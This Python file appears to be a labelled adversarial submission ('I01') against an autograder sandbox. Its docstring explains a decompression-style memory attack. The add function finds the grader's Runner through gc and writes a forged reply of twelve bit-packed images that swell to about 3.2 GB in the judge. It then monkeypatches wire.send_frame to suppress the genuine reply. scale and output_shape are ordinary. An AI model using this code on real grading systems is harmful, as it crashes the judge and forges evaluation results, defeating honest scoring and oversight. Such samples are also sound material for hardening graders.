"""I01: an answer small on the wire that grows eightfold when the judge decodes it. A PIL image
of mode "1" travels bit-packed, one bit a pixel, but PIL keeps it one byte a pixel. The decoder
bounded each image by MAX_PIXELS (2**28: a 16384 x 16384 image, 32 MB on the wire, 268 MB in
the judge), never their sum: add answers a list of twelve of them, 384 MB (within the 512 MB a
reply may hold), and the judge builds twelve images of 268 MB, 3.2 GB, before any test looks at
the answer (test_add prints `got!r`, a short repr). add writes that answer itself with the
runner's own wire (PIL packing 3 billion pixels would take the runner longer than a call's
3 s), then lets the runner's real reply go unsent. The other functions are honest."""
import numpy as np

from autograder.sandbox import wire

SIDE = 16384
PACKED = memoryview(bytes(SIDE * SIDE // 8))  # one bit a pixel: 32 MB


def add(a, b):
    import gc
    runner = next(o for o in gc.get_objects() if type(o).__name__ == "Runner" and hasattr(o, "sock"))
    tree = [{"~": "pil", "mode": "1", "size": [SIDE, SIDE], "b": i} for i in range(12)]
    wire.send_frame(runner.sock, {"ok": tree, "out": "", "dropped": 0}, [PACKED] * 12)
    real = wire.send_frame

    def swallow_once(*args, **kwargs):  # the runner's own reply to this call: not sent
        wire.send_frame = real

    wire.send_frame = swallow_once
    return 0


def scale(x, k):
    return np.asarray(x, dtype=float) * k


def output_shape(shape):
    return tuple(shape)
